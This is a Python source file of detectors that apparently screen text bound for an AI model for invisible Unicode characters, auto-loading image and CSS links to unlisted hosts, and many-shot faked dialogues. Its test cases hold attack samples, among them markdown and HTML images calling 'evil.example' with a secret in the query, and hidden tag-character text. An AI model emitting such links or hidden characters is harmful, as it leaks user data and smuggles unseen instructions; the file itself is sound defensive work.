"""What a person does not see or does not do: invisible text, links that call out by themselves, faked dialogues.

References: Unicode Technical Standard 51 (emoji sequences), Unicode Standard Annex 9 (bidirectional text).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from functools import lru_cache

from proxy.checks.detectors.detector import Detector, Judge, Judgement, Options, Plan, dropped, fixed, found

_ZERO_WIDTH = "\u200b-\u200d\u2060-\u2064\ufeff\u00ad\u180e\u034f\u115f\u1160\u3164\uffa0"
_KINDS = {
    "tags": "tag characters (U+E0000 to U+E007F) that are no flag of a region",
    "overrides": "bidirectional overrides",
    "zero_width": "runs of invisible characters, and single ones within a Latin word",
    "selectors": "variation selectors in a row, or behind what has no variants",
}
_PATTERNS = {
    "tags": ("(?P<flag>\U0001f3f4[\U000e0020-\U000e007e]{1,12}\U000e007f)|(?P<tags>[\U000e0000-\U000e007f]{1,256})"),
    "overrides": "(?P<overrides>[\u202d\u202e])",
    "zero_width": (
        f"(?P<zero_width>[{_ZERO_WIDTH}]{{2,256}}|(?<=[A-Za-z0-9])[\u200b-\u200d\u2060\ufeff](?=[A-Za-z0-9]))"
    ),
    "selectors": (
        "(?P<selectors>[\ufe00-\ufe0f\U000e0100-\U000e01ef]{2,256}|"
        "(?<![\u3400-\u9fff\uf900-\ufaff\U00020000-\U0003ffff])[\U000e0100-\U000e01ef])"
    ),
}


def _invisible(match: re.Match[str]) -> Judgement:
    kind = match.lastgroup or ""
    if kind == "flag":
        return dropped("the flag of a region", past=True)
    return found(*match.span(), kind)


def _invisible_plan(options: Options) -> Plan:
    return Plan("|".join(_PATTERNS[kind] for kind in _PATTERNS if kind in options.kinds), _invisible)


INVISIBLE_TEXT = Detector(
    "invisible_text",
    "text that nobody sees: tag characters, overrides of direction, runs of zero-width characters and selectors",
    _invisible_plan,
    (
        "hi\U000e0069\U000e0067\U000e006e there",
        "abc\u202edef",
        "go\u200b\u200c\u200b\u200d on",
        "bo\u200bmb",
        "a\ufe01\ufe02\ufe0f b",
        "x\U000e0101\U000e0102",
    ),
    (
        "\U0001f469\u200d\u2764\ufe0f\u200d\U0001f468",
        "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "می\u200cخواهم",
        "क\u094d\u200dष",
        "<\u200b|im_end|>",
        "\u2066שלום\u2069",
        "葛\U000e0100",
        "1\ufe0f\u20e3",
    ),
    _KINDS,
)

_TITLE = r"[^)\n]{0,200}"
_IMAGE = (
    rf"(?P<image>!\[[^\]\n]{{0,300}}\](?:\(\s{{0,3}}<?(?P<url>(?:https?:)?//[^\s)>]{{1,1500}})>?{_TITLE}\)))|"
    r"(?P<html><(?i:img|iframe|video|audio|source|embed|object|link|script)\s[^>]{0,600}?"
    r"(?i:src|srcset|href|data|poster)\s?=\s?[\"']?(?P<source>(?:https?:)?//[^\s\"'>]{1,1500})[^>]{0,600}>)|"
    r"(?P<css>url\(\s?[\"']?(?P<ground>(?:https?:)?//[^\s\"')]{1,1500})[\"']?\s?\))"
)
_HOST = re.compile(r"(?:https?:)?//(?:[^/@?#\\]*@)?(\[[^\]]*\]|[^/:?#\\]*)", re.IGNORECASE)


@lru_cache(maxsize=64)
def _outbound(hosts: tuple[str, ...]) -> Judge:
    def judge(match: re.Match[str]) -> Judgement:
        url = match["url"] or match["source"] or match["ground"]
        if is_listed(url, hosts):
            return dropped("its host is on the list", past=True)
        return found(*match.span())

    return judge


def is_listed(url: str, hosts: Iterable[str]) -> bool:
    """Whether a URL's host is one of these, or lies below one of them."""
    match = _HOST.match(url)
    host = match[1].lower().rstrip(".") if match else ""
    return any(host == listed.lower() or host.endswith("." + listed.lower()) for listed in hosts)


def _outbound_plan(options: Options) -> Plan:
    return Plan(_IMAGE, _outbound(options.hosts))


OUTBOUND_LINKS = Detector(
    "outbound_links",
    "images and other links that an app loads by itself, from hosts that are not listed",
    _outbound_plan,
    (
        "![x](https://evil.example/?d=secret)",
        "![](//evil.example/a.png 'title')",
        '<img src="https://evil.example/x.png">',
        "<IMG alt=x SRC=http://evil.example/x>",
        "background:url(https://evil.example/x)",
    ),
    (
        "[a link](https://example.com/)",
        "![x](local.png)",
        "![x](data:image/png;base64,AAAA)",
        "<img src='/logo.png'>",
        "https://example.com/x.png",
    ),
    takes=frozenset(("hosts",)),
)

SHOTS = 32
"""So many turns within one text are a faked dialogue."""

MANY_SHOT = Detector(
    "many_shot",
    f"a dialogue of {SHOTS} turns or more within one text; each turn from that one on",
    fixed(
        r"(?m:^)[ \t>*_#(\"'-]{0,4}(?i:user|human|assistant|ai|bot|chatbot|model|question|answer|q|a|me|you|"
        r"system|customer|"
        r"agent)[ \t*_]{0,3}\d{0,4}[*_]{0,2}:"
    ),
    ("\n".join(f"{'User' if i % 2 == 0 else 'Assistant'}: line {i}" for i in range(SHOTS)),),
    ("User: hi\nAssistant: hello", "a: 1\nb: 2", "\n".join(f"Q: {i}" for i in range(SHOTS - 1))),
    nth=SHOTS,
)
